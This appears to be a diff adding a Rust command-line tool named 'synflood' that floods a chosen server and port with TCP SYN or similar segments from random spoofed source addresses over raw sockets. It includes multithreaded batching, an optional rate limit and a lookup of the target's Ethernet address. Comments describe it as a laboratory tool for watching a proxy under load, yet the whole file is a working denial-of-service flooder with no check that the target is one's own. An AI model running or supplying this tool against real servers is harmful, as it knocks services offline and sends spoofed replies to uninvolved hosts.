@@ -1,0 +1,193 @@
+//! `synflood`: attacks a server from sources that do not exist, for a bounded time, to see what the proxy does.
+//! For one's own laboratory; it refuses to guess an interface.
+
+use std::fs;
+use std::io;
+use std::net::IpAddr;
+use std::process::ExitCode;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread;
+use std::time::{Duration, Instant};
+
+use clap::Parser;
+use rand::SeedableRng;
+use rand::rngs::SmallRng;
+use tools::raw::Sender;
+use tools::spray::{Kind, Mac, Sources, Spray, Target};
+
+/// Frames a system call; more gains nothing.
+const BATCH: u64 = 64;
+
+/// Floods a server with TCP segments from random sources that do not exist. For laboratories: the answers go to strangers.
+#[derive(Parser, Debug)]
+#[command(version)]
+struct Arguments {
+    /// The interface the flood leaves by; never guessed.
+    #[arg(short, long)]
+    interface: String,
+    /// The address attacked; its family is the flood's.
+    #[arg(long)]
+    to: IpAddr,
+    /// The port attacked.
+    #[arg(long, default_value_t = 80)]
+    port: u16,
+    /// The Ethernet destination; for an IPv4 neighbour the ARP table knows it.
+    #[arg(long, value_parser = parse_mac)]
+    to_mac: Option<Mac>,
+    /// What the flood consists of.
+    #[arg(long, value_enum, default_value_t = Kind::Syn)]
+    kind: Kind,
+    /// The network the sources claim to be in, as 192.0.2.0/24; without it, the whole Internet.
+    #[arg(long)]
+    from: Option<Sources>,
+    /// SYNs without options, 60 bytes on the wire.
+    #[arg(long)]
+    bare: bool,
+    /// Segments a second, all threads together; without it, as fast as the kernel takes them.
+    #[arg(long, value_parser = clap::value_parser!(u64).range(1..))]
+    rate: Option<u64>,
+    /// How long.
+    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u64).range(1..=600))]
+    seconds: u64,
+    /// Threads that send.
+    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u64).range(1..=64))]
+    threads: u64,
+    /// Where chance begins: the same seed makes the same flood.
+    #[arg(long)]
+    seed: Option<u64>,
+}
+
+/// What one thread achieved.
+#[derive(Clone, Copy, Default)]
+struct Tally {
+    sent: u64,
+    /// Times the device had no room.
+    full: u64,
+}
+
+fn main() -> ExitCode {
+    match run(&Arguments::parse()) {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(complaint) => {
+            eprintln!("synflood: {complaint}");
+            ExitCode::FAILURE
+        }
+    }
+}
+
+fn run(arguments: &Arguments) -> Result<(), String> {
+    let interface = &arguments.interface;
+    let sources = arguments.from.unwrap_or(match arguments.to {
+        IpAddr::V4(_) => Sources::ANY_V4,
+        IpAddr::V6(_) => Sources::ANY_V6,
+    });
+    if sources.is_ipv4() != arguments.to.is_ipv4() {
+        return Err("--from and --to are of different address families".into());
+    }
+    let open = || Sender::open(interface).map_err(|error| complaint(interface, &error));
+    let target = Target {
+        address: arguments.to,
+        port: arguments.port,
+        mac: arguments.to_mac.or_else(|| neighbour(arguments.to, interface)).ok_or_else(|| {
+            format!("no neighbour entry for {} on {interface}; ping it first or give --to-mac", arguments.to)
+        })?,
+        from_mac: open()?.mac(interface).map_err(|error| complaint(interface, &error))?,
+    };
+    let senders = (0..arguments.threads).map(|_| open()).collect::<Result<Vec<_>, _>>()?;
+
+    let stop = Arc::new(AtomicBool::new(false));
+    let on_signal = Arc::clone(&stop);
+    ctrlc::set_handler(move || on_signal.store(true, Ordering::Relaxed)).map_err(|error| error.to_string())?;
+
+    let seed = arguments.seed.unwrap_or_else(rand::random);
+    let start = Instant::now();
+    let end = start + Duration::from_secs(arguments.seconds);
+    let rate = arguments.rate.map(|rate| rate as f64 / arguments.threads as f64);
+    let tallies = thread::scope(|scope| {
+        let threads: Vec<_> = (0u64..)
+            .zip(&senders)
+            .map(|(number, sender)| {
+                let rng = SmallRng::seed_from_u64(seed ^ number.wrapping_mul(0x9e37_79b9_7f4a_7c15));
+                let spray = Spray::new(arguments.kind, target, sources, arguments.bare, rng);
+                let stop = &stop;
+                scope.spawn(move || flood(sender, spray, rate, start, end, stop))
+            })
+            .collect();
+        threads
+            .into_iter()
+            .map(|thread| thread.join().expect("a sender does not panic"))
+            .collect::<io::Result<Vec<_>>>()
+    })
+    .map_err(|error| complaint(interface, &error))?;
+
+    let sent: u64 = tallies.iter().map(|tally| tally.sent).sum();
+    let full: u64 = tallies.iter().map(|tally| tally.full).sum();
+    let seconds = start.elapsed().as_secs_f64();
+    println!("sent={sent} seconds={seconds:.3} kpps={:.1} device-full={full}", sent as f64 / seconds / 1e3);
+    Ok(())
+}
+
+/// Sends until `end`, a signal or an error; at `rate` segments a second if there is one.
+fn flood(
+    sender: &Sender,
+    mut spray: Spray,
+    rate: Option<f64>,
+    start: Instant,
+    end: Instant,
+    stop: &AtomicBool,
+) -> io::Result<Tally> {
+    let len = spray.frame_len();
+    let mut frames = vec![0; len * BATCH as usize];
+    let mut tally = Tally::default();
+    loop {
+        let now = Instant::now();
+        if now >= end || stop.load(Ordering::Relaxed) {
+            return Ok(tally);
+        }
+        let due = rate.map_or(BATCH, |rate| {
+            let scheduled = ((now - start).as_secs_f64() * rate) as u64;
+            scheduled.saturating_sub(tally.sent).min(BATCH)
+        });
+        if due == 0 {
+            thread::sleep(Duration::from_micros(200));
+            continue;
+        }
+        let batch = &mut frames[..len * due as usize];
+        batch.chunks_exact_mut(len).for_each(|frame| spray.stamp(frame));
+        match sender.send(batch, len)? {
+            0 => {
+                tally.full += 1;
+                thread::yield_now();
+            }
+            sent => tally.sent += sent as u64,
+        }
+    }
+}
+
+/// One line that says what is wrong and what to do.
+fn complaint(interface: &str, error: &io::Error) -> String {
+    match error.raw_os_error() {
+        Some(libc::EPERM | libc::EACCES) => "raw sockets need root or CAP_NET_RAW".into(),
+        Some(libc::ENODEV | libc::ENXIO) => format!("there is no interface `{interface}`"),
+        Some(libc::ENETDOWN) => format!("`{interface}` is down; ip link set {interface} up"),
+        _ => format!("{interface}: {error}"),
+    }
+}
+
+/// The Ethernet address of an IPv4 neighbour, as the kernel's ARP table has it.
+fn neighbour(address: IpAddr, interface: &str) -> Option<Mac> {
+    let table = fs::read_to_string("/proc/net/arp").ok()?;
+    table.lines().skip(1).find_map(|line| {
+        let fields: Vec<&str> = line.split_whitespace().collect();
+        let &[ip, _, _, mac, _, device] = fields.as_slice() else { return None };
+        let known = ip.parse() == Ok(address) && device == interface;
+        parse_mac(mac).ok().filter(|mac| known && *mac != [0; 6])
+    })
+}
+
+fn parse_mac(text: &str) -> Result<Mac, String> {
+    let wrong = || format!("`{text}` is no Ethernet address like 02:00:00:00:00:01");
+    let bytes = text.split(':').map(|byte| u8::from_str_radix(byte, 16)).collect::<Result<Vec<_>, _>>();
+    bytes.map_err(|_| wrong())?.try_into().map_err(|_| wrong())
+}
